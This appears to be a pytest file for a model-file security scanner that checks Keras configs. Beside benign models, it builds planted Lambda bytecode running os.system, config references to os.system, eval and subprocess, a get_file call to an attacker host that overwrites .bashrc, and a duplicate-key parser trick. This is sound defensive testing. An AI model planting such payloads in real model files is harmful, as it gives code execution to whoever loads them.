"""Keras model configs (``config.json`` of ``.keras`` files, Keras 2 JSON): attacks and benign."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from typing import Any

import pytest

from mltrust.config import ScanConfig
from mltrust.findings import Finding, Severity
from mltrust.scan import scan_bytes
from mltrust.scan.formats.keras import judge_callable, marshal_names

# --------------------------------------------------------------------------------------------
# Builders of realistic Keras 3 / Keras 2 configs (written by hand from the Keras 3 format).


def _policy() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }


def _init(name: str) -> dict[str, Any]:
    return {
        "module": "keras.initializers",
        "class_name": name,
        "config": {"seed": None} if name.startswith("Glorot") else {},
        "registered_name": None,
    }


def k3(class_name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    cfg = {"name": config.pop("name", class_name.lower()), "trainable": True, "dtype": _policy()}
    cfg.update(config)
    return {
        "module": module,
        "class_name": class_name,
        "config": cfg,
        "registered_name": None,
        "build_config": {"input_shape": [None, 16]},
    }


def benign_keras3_layers() -> list[dict[str, Any]]:
    return [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 28, 28, 1], "dtype": "float32", "name": "input"},
            "registered_name": None,
        },
        k3(
            "Conv2D",
            filters=32,
            kernel_size=[3, 3],
            strides=[1, 1],
            padding="valid",
            activation="relu",
            kernel_initializer=_init("GlorotUniform"),
            bias_initializer=_init("Zeros"),
            kernel_regularizer={
                "module": "keras.regularizers",
                "class_name": "L2",
                "config": {"l2": 0.01},
                "registered_name": None,
            },
        ),
        k3("BatchNormalization", axis=-1, momentum=0.99, epsilon=0.001),
        k3("MaxPooling2D", pool_size=[2, 2]),
        k3("Flatten"),
        k3("Dropout", rate=0.5),
        k3(
            "Dense",
            units=64,
            activation={
                "module": "keras.activations",
                "class_name": "function",
                "config": "gelu",
                "registered_name": "gelu",
            },
            kernel_initializer=_init("HeNormal"),
        ),
        k3(
            "Embedding",
            input_dim=1000,
            output_dim=64,
            embeddings_initializer=_init("RandomUniform"),
        ),
        k3(
            "Bidirectional",
            layer=k3("LSTM", units=32, recurrent_initializer=_init("Orthogonal")),
            merge_mode="concat",
        ),
        k3("TimeDistributed", layer=k3("Dense", units=8, activation="softmax")),
        k3("Dense", units=10, activation="softmax"),
    ]


def benign_keras3_model() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": _policy(),
            "layers": benign_keras3_layers(),
            "build_input_shape": [None, 28, 28, 1],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 28, 28, 1]},
        "compile_config": {
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {
                    "name": "adam",
                    "learning_rate": 0.001,
                    "beta_1": 0.9,
                    "beta_2": 0.999,
                    "epsilon": 1e-07,
                    "amsgrad": False,
                },
                "registered_name": None,
            },
            "loss": {
                "module": "keras.losses",
                "class_name": "SparseCategoricalCrossentropy",
                "config": {"name": "sparse_categorical_crossentropy", "from_logits": False},
                "registered_name": None,
            },
            "metrics": ["accuracy"],
            "jit_compile": False,
        },
    }


def functional(*layers: dict[str, Any], name: str = "model") -> dict[str, Any]:
    chained = []
    prev = "input_layer"
    for layer in layers:
        layer = dict(layer)
        layer["name"] = (
            layer["config"].get("name", "layer") if isinstance(layer["config"], dict) else "layer"
        )
        layer["inbound_nodes"] = [
            {
                "args": [
                    {
                        "class_name": "__keras_tensor__",
                        "config": {
                            "shape": [None, 16],
                            "dtype": "float32",
                            "keras_history": [prev, 0, 0],
                        },
                    }
                ],
                "kwargs": {},
            }
        ]
        prev = layer["name"]
        chained.append(layer)
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": name,
            "trainable": True,
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {
                        "batch_shape": [None, 16],
                        "dtype": "float32",
                        "name": "input_layer",
                    },
                    "registered_name": None,
                    "name": "input_layer",
                    "inbound_nodes": [],
                },
                *chained,
            ],
            "input_layers": [["input_layer", 0, 0]],
            "output_layers": [[prev, 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
    }


def keras2_model() -> dict[str, Any]:
    def layer(cls: str, **cfg: Any) -> dict[str, Any]:
        base = {"name": cfg.pop("name", cls.lower()), "trainable": True, "dtype": "float32"}
        base.update(cfg)
        return {"class_name": cls, "config": base}

    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                layer("InputLayer", batch_input_shape=[None, 100], sparse=False, ragged=False),
                layer(
                    "Embedding",
                    input_dim=5000,
                    output_dim=32,
                    embeddings_initializer={"class_name": "RandomUniform", "config": {}},
                ),
                layer(
                    "LSTM",
                    units=32,
                    activation="tanh",
                    recurrent_activation="sigmoid",
                    kernel_initializer={"class_name": "GlorotUniform", "config": {"seed": None}},
                    recurrent_initializer={"class_name": "Orthogonal", "config": {"gain": 1.0}},
                ),
                layer("BatchNormalization", axis=[1], momentum=0.99),
                layer("Dropout", rate=0.2),
                layer(
                    "Dense",
                    units=1,
                    activation="sigmoid",
                    kernel_initializer={"class_name": "GlorotUniform", "config": {"seed": None}},
                    bias_initializer={"class_name": "Zeros", "config": {}},
                ),
            ],
        },
        "keras_version": "2.15.0",
        "backend": "tensorflow",
    }


def lambda_b64(source: str = "lambda x: __import__('os').system('touch /tmp/pwned')") -> str:
    # mltrust: ignore[MLT-CODE-005] the test builds a planted Lambda layer's bytecode
    code = compile(source, "<payload>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def keras3_lambda_layer(name: str = "lambda") -> dict[str, Any]:
    return k3(
        "Lambda",
        name=name,
        function={
            "class_name": "__lambda__",
            "config": {"code": lambda_b64(), "defaults": None, "closure": None},
        },
        arguments={},
    )


def keras2_lambda_layer() -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_b64(), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def scan_json(doc: object, name: str = "config.json", config: ScanConfig | None = None):
    return scan_bytes(json.dumps(doc).encode(), name, config)


def medium_plus(findings: tuple[Finding, ...]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.MEDIUM]


def rules(findings: tuple[Finding, ...]) -> set[str]:
    return {f.rule_id for f in findings}


# --------------------------------------------------------------------------------------------
# Benign


def test_benign_keras3_sequential_has_no_findings() -> None:
    result = scan_json(benign_keras3_model())
    assert result.formats == ("config",)
    assert medium_plus(result.findings) == []
    assert dict(result.facts).get("keras_config") is True


def test_benign_keras3_functional_has_no_findings() -> None:
    model = functional(*benign_keras3_layers()[1:])
    assert medium_plus(scan_json(model).findings) == []


def test_benign_keras2_config_has_no_findings() -> None:
    assert medium_plus(scan_json(keras2_model()).findings) == []


def test_benign_keras_metadata_json_has_no_findings() -> None:
    meta = {"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}
    assert scan_json(meta, "metadata.json").findings == ()


def test_benign_keras3_zip_archive_has_no_findings() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(benign_keras3_model()))
    result = scan_bytes(buf.getvalue(), "model.keras")
    assert medium_plus(result.findings) == []
    assert any(f.endswith("config") for f in result.formats)


# --------------------------------------------------------------------------------------------
# Lambda layers


def test_keras3_lambda_layer_bytecode_is_reported_with_names() -> None:
    model = benign_keras3_model()
    model["config"]["layers"].append(keras3_lambda_layer())
    result = scan_json(model)
    lam = [f for f in result.findings if f.rule_id == "MLT-KER-001"]
    assert lam, result.findings
    assert lam[0].severity == Severity.CRITICAL  # references os/system
    assert "system" in lam[0].message and "os" in lam[0].message


def test_keras3_lambda_without_dangerous_names_is_high() -> None:
    layer = k3(
        "Lambda",
        function={
            "class_name": "__lambda__",
            "config": {"code": lambda_b64("lambda x: x * 2"), "defaults": None, "closure": None},
        },
    )
    result = scan_json(functional(layer))
    (lam,) = [f for f in result.findings if f.rule_id == "MLT-KER-001"]
    assert lam.severity == Severity.HIGH
    assert "safe_mode" in lam.message


def test_keras2_lambda_layer_bytecode_is_critical() -> None:
    model = keras2_model()
    model["config"]["layers"].insert(2, keras2_lambda_layer())
    result = scan_json(model)
    (lam,) = [f for f in result.findings if f.rule_id == "MLT-KER-001"]
    assert lam.severity == Severity.CRITICAL
    assert "no safe mode" in lam.message


def test_lambda_hidden_in_nested_functional_submodel() -> None:
    inner = functional(keras3_lambda_layer("hidden"), name="inner")
    outer = functional(k3("Dense", units=4), inner)
    assert "MLT-KER-001" in rules(scan_json(outer).findings)


def test_lambda_hidden_in_time_distributed_wrapper() -> None:
    wrapper = k3("TimeDistributed", layer=keras3_lambda_layer("td"))
    assert "MLT-KER-001" in rules(scan_json(functional(wrapper)).findings)


def test_lambda_hidden_in_bidirectional_backward_layer() -> None:
    wrapper = k3(
        "Bidirectional",
        layer=k3("LSTM", units=4),
        backward_layer=keras2_lambda_layer(),
    )
    assert "MLT-KER-001" in rules(scan_json(functional(wrapper)).findings)


def test_lambda_hidden_in_build_config() -> None:
    model = benign_keras3_model()
    model["build_config"]["extra"] = [keras3_lambda_layer()]
    assert "MLT-KER-001" in rules(scan_json(model).findings)


def test_lambda_output_shape_bytecode_is_reported() -> None:
    layer = keras2_lambda_layer()
    layer["config"]["function"] = "identity"
    layer["config"]["function_type"] = "function"
    layer["config"]["module"] = "keras.backend"
    layer["config"]["output_shape"] = [lambda_b64("lambda s: s"), None, None]
    layer["config"]["output_shape_type"] = "lambda"
    findings = scan_json(keras2_model() | {"config": {"layers": [layer]}}).findings
    assert any(f.rule_id == "MLT-KER-001" and "output_shape" in f.message for f in findings), (
        findings
    )


def test_serialized_lambda_as_activation_is_reported() -> None:
    dense = k3(
        "Dense",
        units=3,
        activation={"class_name": "__lambda__", "config": {"value": [lambda_b64(), None, None]}},
    )
    assert "MLT-KER-001" in rules(scan_json(functional(dense)).findings)


def test_lambda_with_undecodable_code_is_still_reported() -> None:
    layer = keras2_lambda_layer()
    layer["config"]["function"] = ["!!!not base64 at all!!!", None, None]
    assert "MLT-KER-001" in rules(scan_json(functional(layer)).findings)


def test_keras2_lambda_named_function_in_os_module_is_critical() -> None:
    layer = keras2_lambda_layer()
    layer["config"].update(function="system", function_type="function", module="os")
    findings = scan_json(keras2_model() | {"config": {"layers": [layer]}}).findings
    bad = [f for f in findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL
    assert "os.system" in bad[0].message


def test_marshal_names_scans_without_unmarshalling() -> None:
    code = compile("lambda x: getattr(__import__('subprocess'), 'run')(['id'])", "<p>", "eval")
    raw = marshal.dumps(code.co_consts[0])
    names = marshal_names(raw)
    assert "getattr" in names and "__import__" in names


# --------------------------------------------------------------------------------------------
# module / class_name / registered_name


def test_module_os_class_name_system_is_critical() -> None:
    evil = {"module": "os", "class_name": "system", "config": {}, "registered_name": None}
    model = benign_keras3_model()
    model["config"]["layers"].append(evil)
    bad = [f for f in scan_json(model).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL


def test_function_activation_in_builtins_eval_is_critical() -> None:
    dense = k3(
        "Dense",
        units=3,
        activation={
            "module": "builtins",
            "class_name": "function",
            "config": "eval",
            "registered_name": "function",
        },
    )
    bad = [f for f in scan_json(functional(dense)).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL
    assert "eval" in bad[0].message


def test_function_initializer_in_subprocess_module_is_critical() -> None:
    dense = k3(
        "Dense",
        units=3,
        kernel_initializer={
            "module": "subprocess",
            "class_name": "function",
            "config": "check_output",
            "registered_name": None,
        },
    )
    bad = [f for f in scan_json(functional(dense)).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL


def test_registered_name_os_system_is_critical() -> None:
    evil = {"module": None, "class_name": "X", "config": {}, "registered_name": "os>system"}
    model = benign_keras3_model()
    model["config"]["layers"].append(evil)
    bad = [f for f in scan_json(model).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL


def test_main_module_custom_layer_is_reported() -> None:
    custom = k3("MyLayer", module="__main__")
    custom["registered_name"] = "Custom>MyLayer"
    findings = scan_json(functional(custom)).findings
    assert medium_plus(findings), findings


def test_custom_object_of_unknown_package_is_medium() -> None:
    custom = k3("Attention", module="acme_layers.attention")
    custom["registered_name"] = "acme>Attention"
    (f,) = [f for f in scan_json(functional(custom)).findings if f.rule_id == "MLT-KER-003"]
    assert f.severity == Severity.MEDIUM
    assert "acme_layers.attention.Attention" in f.message


def test_custom_object_allowed_by_allow_targets() -> None:
    custom = k3("Attention", module="acme_layers.attention")
    custom["registered_name"] = "acme_layers>Attention"
    config = ScanConfig(allow_targets=frozenset({"acme_layers."}))
    assert medium_plus(scan_json(functional(custom), config=config).findings) == []


def test_keras_get_file_safe_mode_bypass_is_high() -> None:
    evil = {
        "module": "keras.utils",
        "class_name": "get_file",
        "config": {"origin": "https://attacker.invalid/x", "fname": "/home/u/.bashrc"},
        "registered_name": None,
    }
    bad = [f for f in scan_json(functional(evil)).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity >= Severity.HIGH


def test_module_lookalike_of_keras_is_not_trusted() -> None:
    evil = k3("Dense", module="kerasx.layers")
    assert medium_plus(scan_json(functional(evil)).findings)


def test_malicious_config_inside_keras_zip_is_found() -> None:
    model = benign_keras3_model()
    model["config"]["layers"].append(keras3_lambda_layer())
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(model))
    result = scan_bytes(buf.getvalue(), "model.keras")
    assert "MLT-KER-001" in rules(result.findings)


@pytest.mark.parametrize(
    ("dotted", "expected"),
    [
        ("os.system", Severity.CRITICAL),
        ("builtins.exec", Severity.CRITICAL),
        ("numpy.os.system", Severity.CRITICAL),
        ("builtins.getattr", Severity.HIGH),
        ("builtins.dict", None),
        ("acme.Thing", Severity.MEDIUM),
    ],
)
def test_judge_callable_verdicts(dotted: str, expected: Severity | None) -> None:
    assert judge_callable(dotted, ScanConfig()).severity == expected


def test_duplicate_module_key_parser_differential() -> None:
    data = (
        b'{"module": "keras", "class_name": "Sequential", "config": {"layers": ['
        b'{"module": "os", "module": "keras.layers", "class_name": "system", "config": {}}]}}'
    )
    bad = [f for f in scan_bytes(data, "config.json").findings if f.rule_id == "MLT-KER-002"]
    assert any(f.severity == Severity.CRITICAL and "os.system" in f.message for f in bad)


def test_tensorflow_math_function_activation_is_benign() -> None:
    dense = k3(
        "Dense",
        units=3,
        activation={
            "module": "tensorflow.python.ops.nn_ops",
            "class_name": "function",
            "config": "relu6",
            "registered_name": "function",
        },
    )
    assert medium_plus(scan_json(functional(dense)).findings) == []


def test_tensorflow_py_function_reference_is_critical() -> None:
    dense = k3(
        "Dense",
        units=3,
        activation={
            "module": "tensorflow.python.ops.script_ops",
            "class_name": "function",
            "config": "eager_py_func",
            "registered_name": None,
        },
    )
    bad = [f for f in scan_json(functional(dense)).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.CRITICAL


def test_keras3_archive_with_weights_h5_is_benign() -> None:
    h5py = pytest.importorskip("h5py")
    np = pytest.importorskip("numpy")
    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        for i, layer in enumerate(["conv2d", "dense", "dense_1"]):
            grp = f.create_group(f"layers/{layer}/vars")
            grp.create_dataset("0", data=np.full((4, 4), float(i)))
            grp.create_dataset("1", data=np.zeros(4))
        f.create_group("optimizer/vars").create_dataset("0", data=np.array(10))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(benign_keras3_model()))
        zf.writestr("model.weights.h5", weights.getvalue())
    result = scan_bytes(buf.getvalue(), "model.keras")
    assert medium_plus(result.findings) == []
    assert any(f.endswith("hdf5") for f in result.formats), result.formats


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("keras.src.utils.file_utils", "rmtree"),
        ("keras.src.saving.saving_lib", "load_model"),
        ("keras.src.utils", "get_file"),
        ("keras.src.layers", "os"),
    ],
)
def test_keras_internal_utility_reference_is_high(module: str, name: str) -> None:
    ref = {"module": module, "class_name": "function", "config": name, "registered_name": None}
    dense = k3("Dense", units=3, activation=ref)
    bad = [f for f in scan_json(functional(dense)).findings if f.rule_id == "MLT-KER-002"]
    assert bad and bad[0].severity == Severity.HIGH


def test_keras2_lambda_named_keras_backend_function_is_benign() -> None:
    layer = keras2_lambda_layer()
    layer["config"].update(
        function="l2_normalize", function_type="function", module="keras.backend"
    )
    findings = scan_json(keras2_model() | {"config": {"layers": [layer]}}).findings
    assert medium_plus(findings) == []
